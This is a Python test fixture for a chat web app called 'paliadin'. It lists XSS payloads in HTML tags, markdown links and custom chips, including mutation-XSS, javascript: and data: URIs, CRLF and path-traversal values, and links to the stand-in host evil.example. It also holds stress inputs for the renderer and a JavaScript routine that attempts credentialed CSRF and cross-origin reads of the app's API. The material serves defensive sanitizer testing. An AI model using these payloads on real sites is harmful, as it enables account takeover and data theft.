"""What a model, a file or a foreign page may try in a browser. Whatever of it runs sets `window.hacked`."""

from __future__ import annotations

EVIL = "parent.hacked=top.hacked=window.hacked=1"
IMAGE = "<img src=x onerror=window.hacked=1>"
FAR = "https://evil.example"

TAGS = [
    f"<script>{EVIL}</script>",
    f"<ScRiPt >{EVIL}</sCrIpT\t>",
    f"<script src={FAR}/x.js></script>",
    f"<svg><script>{EVIL}</script></svg>",
    f"<svg onload={EVIL}><circle r=9></svg>",
    f"<svg><animate onbegin={EVIL} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{EVIL}"><text y=9>text</text></a></svg>',
    f"<svg><use href={FAR}/x.svg#a></svg>",
    f"<svg><style><img src=x onerror={EVIL}></style></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={EVIL}&gt;">',
    f"<math href=javascript:{EVIL}>math</math>",
    f'<noscript><p title="</noscript><img src=x onerror={EVIL}>">',
    f"<template><img src=x onerror={EVIL}></template>",
    f'<iframe srcdoc="<script>{EVIL}</script>"></iframe>',
    f"<iframe src=javascript:{EVIL}></iframe>",
    f"<object data=javascript:{EVIL}></object><embed src=javascript:{EVIL}>",
    f"<link rel=stylesheet href={FAR}/x.css><link rel=prefetch href={FAR}/y>",
    f'<meta http-equiv=refresh content="0;url={FAR}/"><base href={FAR}/>',
    f"<body onload={EVIL}><input autofocus onfocus={EVIL}>",
    f"<details open ontoggle={EVIL}><summary>more</summary></details>",
    f"<video onerror={EVIL}><source src=x onerror={EVIL}></video><audio src=x onerror={EVIL}>",
    f"<marquee onstart={EVIL}>moving</marquee>",
    f"<form action={FAR}/><input name=attributes><input type=submit><button formaction=javascript:{EVIL}>b</button>",
    f'<a href="javascript:{EVIL}">one</a> <a href="&#106;avascript:{EVIL}">two</a>',
    f'<a href="java&#10;script:{EVIL}">three</a>',
    f'<a href="data:text/html,<script>{EVIL}</script>">data</a> <a href="vbscript:{EVIL}">vb</a>',
    f'<div style="background:url({FAR}/p.png);position:fixed;inset:0;z-index:99999">over all</div>',
    f"<style>@import url({FAR}/x.css); * {{ display: none !important }}</style>",
    f"<img srcset={FAR}/a.png><picture><source srcset={FAR}/b.png></picture><img src={FAR}/c.png>",
    f'<p id="x" class="turn composer icon" onclick={EVIL} data-x=y aria-hidden=true>a paragraph</p>',
    "<a id=turns name=body>clobber</a><form id=document><input id=querySelector></form>",
    f'<!--<img src="--><img src=x onerror={EVIL}>"> <![CDATA[<img src=x onerror={EVIL}>]]> <?php {EVIL} ?>',
    f"<img src=x onerror={EVIL}//",
    f"<x/onmouseover={EVIL}>unknown</x> <button onclick={EVIL}>press</button> <dialog open>dialog</dialog>",
]
LINKS = [
    f"[a](javascript:{EVIL}) [b](<javascript:{EVIL}>) [c](JaVaScRiPt:{EVIL}) [d](javascript&colon;{EVIL})",
    f"[e](&#x6A;avascript:{EVIL}) [f](java\tscript:{EVIL}) [g](\x01javascript:{EVIL}) [h]( javascript:{EVIL} )",
    f"[i](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==) [j](vbscript:{EVIL}) [k](file:///etc/passwd)",
    f"[l](blob:null/x) [m](//evil.example/) [n](\\\\evil.example) [o](/\\evil.example) [p](view-source:{FAR})",
    f"<javascript:{EVIL}> [q] [r][s]",
    f'![t]({FAR}/pixel.png) ![u](data:image/svg+xml,<svg%20onload="{EVIL}">) [![v]({FAR}/v.png)](javascript:{EVIL})',
    f'[w](https://example.com "onmouseover={EVIL}") [x](https://example.com"onmouseover="{EVIL})',
    f"[y](https://example.com/?q=<script>{EVIL}</script>) [<img src=x onerror={EVIL}>](https://example.com/)",
    f"[q]: javascript:{EVIL}\n[s]: <javascript:{EVIL}>",
    f"```html\n</code></pre><script>{EVIL}</script>\n```",
    f'```"><img/src=x/onerror={EVIL}>\ncode\n```',
    f"``</code><img src=x onerror={EVIL}>`` and # <img src=x onerror={EVIL}>",
    f"| <img src=x onerror={EVIL}> | b |\n|:--|--:|\n| <script>{EVIL}</script> | [z](javascript:{EVIL}) |",
]
CHIPS = [
    f'[#deadline-OPEN:"><img src=x onerror={EVIL}>]',
    "[#deadline-OPEN:' onmouseover='hacked=1]",
    "[#deadline-OPEN:../../../paliadin?token=x]",
    "[#deadline-OPEN:javascript:hacked=1]",
    "[#constructor-OPEN:c47bd2] [#__proto__-OPEN:c47bd2] [#toString-OPEN:x]",
    f"[#<b onclick={EVIL}>-OPEN:x]",
    "[chip:nav:javascript:hacked=1] [chip:nav:JAVASCRIPT:hacked=1] [chip:nav://evil.example/]",
    "[chip:nav:/\\evil.example] [chip:nav:/%5c%5cevil.example] [chip:nav:/..//evil.example]",
    "[chip:nav:https://evil.example] [chip:nav:data:text/html,x]",
    '[chip:nav:/%0d%0aSet-Cookie:x=y] [chip:nav:/\u202etxt] [chip:nav:/x"onclick="hacked=1]',
    '[chip:filter:"><script>hacked=1</script>] [chip:filter:x" onload="hacked=1] [chip:open:x]',
]
TABLE = "| " + " | ".join(f"c{column}" for column in range(12)) + " |\n" + "|---" * 12 + "|\n"
GIANT = [
    TABLE + "".join("| " + " | ".join(f"{row}.{column}" for column in range(12)) + " |\n" for row in range(1_500)),
    "| " + " | ".join("wide" for _ in range(400)) + " |\n" + "|---" * 400 + "|\n" + "| " + "x | " * 400,
    "x" * 100_000,
    "\n".join(f"# {'H' * 300}" for _ in range(200)),
    "\n" * 5_000,
]
DEEP = [
    ">" * 800 + " deep quote",
    "\n".join("  " * depth + f"- level {depth}" for depth in range(150)),
    "[" * 5_000 + "x" + "](y)" * 200,
    "*" * 5_000 + "x" + "_" * 5_000,
    "`" * 5_001 + "x",
    "![" * 3_000,
    "<div>" * 2_000 + "in many" + "</div>" * 500,
    "(" * 5_000 + "[a](" + "(" * 3_000,
    "&" + "amp;" * 3_000 + "<" * 5_000,
    "e\u0301\u0327" + "\u0300" * 2_000 + " \u202e\u2066\u200f turned \ufeff\u200b",
    "1. " * 300 + "x",
]
NESTED = [
    "> " * 2_500 + "quotations",
    "- " * 500 + "lists",
    "> 1. " * 500 + "both",
    "*a " * 500 + "emphasis" + " a*" * 500,
    "[" * 500 + "links" + "](y)" * 500,
    "\n".join("> " * (30 - line) + "ever less" for line in range(30)),
]
END = "\n\nThe end of it."
ANSWERS = {
    "tags": "\n\n".join(TAGS) + END,
    "inline": "Words " + " and ".join(TAGS) + " in one line." + END,
    "links": "\n\n".join(LINKS) + END,
    "chips": "\n\n".join(CHIPS) + END,
    "giant": "\n\n".join(GIANT) + END,
    "deep": "\n\n".join(DEEP) + END,
    "nested": "\n\n".join(NESTED) + END,
}

ATTACK = """
async ({ target, turn }) => {
  const api = `${target}/api/paliadin`;
  const code = "/paliadin/static/js/main.js";
  const tried = [], read = [];
  const wait = (seconds) => new Promise((done) => setTimeout(done, seconds * 1000));
  const attempt = async (name, work) => {
    try {
      const got = await Promise.race([work(), wait(3)]);
      if (got) read.push([name, String(got)]);
    } catch { /* refused: as it should be */ }
    tried.push(name);
  };
  const json = '{"session_id": "main", "user_message": "EVIL"}';

  for (const path of ["turn", "reset", `stream/${turn}/abort`]) {
    for (const options of [
      { mode: "no-cors", headers: { "content-type": "text/plain" } },
      { mode: "cors", headers: { "content-type": "text/plain" } },
      { mode: "cors", headers: { "content-type": "application/json" } },
    ]) {
      await attempt(`fetch ${path}`, async () => {
        const request = { method: "POST", credentials: "include", body: json, ...options };
        const response = await fetch(`${api}/${path}`, request);
        return response.type === "opaque" ? "" : await response.text();
      });
    }
    await attempt(`beacon ${path}`, () => (navigator.sendBeacon(`${api}/${path}`, new Blob([json])), ""));
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      await attempt(`form ${path}`, async () => {
        const frame = document.body.appendChild(document.createElement("iframe"));
        frame.name = `f${tried.length}`;
        const form = document.body.appendChild(document.createElement("form"));
        Object.assign(form, { action: `${api}/${path}`, method: "POST", enctype, target: frame.name });
        const field = form.appendChild(document.createElement("input"));
        Object.assign(field, { name: '{"user_message": "EVIL", "x": "', value: '"}' });
        form.submit();
        await wait(0.3);
        return frame.contentDocument?.body?.textContent;
      });
    }
  }
  for (const path of ["history", "health", `stream/${turn}`]) {
    await attempt(`read ${path}`, async () => (await fetch(`${api}/${path}`, { credentials: "include" })).text());
  }
  const tags = { img: "src", script: "src", iframe: "src", object: "data", link: "href" };
  await attempt("tags", async () => {
    for (const [tag, address] of Object.entries(tags)) {
      for (const path of ["/api/paliadin/turn?user_message=EVIL", "/api/paliadin/history", "/paliadin", code]) {
        const element = document.createElement(tag);
        if (tag === "link") element.rel = "stylesheet";
        element[address] = target + path;
        document.body.append(element);
      }
    }
    await wait(1);
    const shown = [...document.querySelectorAll("iframe, object")];
    const frames = shown.map((each) => each.contentDocument?.body?.textContent);
    return frames.filter((text) => text?.trim()).join();
  });
  await attempt("module", async () => Object.keys(await import(target + code)).join() || "loaded");
  await attempt("events", () => new Promise((done) => {
    const source = new EventSource(`${api}/stream/${turn}`, { withCredentials: true });
    for (const name of ["meta", "content_delta", "end"]) source.addEventListener(name, (event) => done(event.data));
    source.onerror = () => (source.close(), done(""));
  }));
  for (const path of ["/paliadin", `/api/paliadin/stream/${turn}`]) {
    await attempt("socket", () => new Promise((done) => {
      const socket = new WebSocket(target.replace("http", "ws") + path);
      socket.onopen = () => done("opened");
      socket.onerror = () => done("");
    }));
  }
  await attempt("window", async () => {
    const opened = window.open(`${target}/paliadin`);
    await wait(1);
    try { return opened?.document.body.textContent; } finally { opened?.close(); }
  });
  return { tried, read };
}
"""
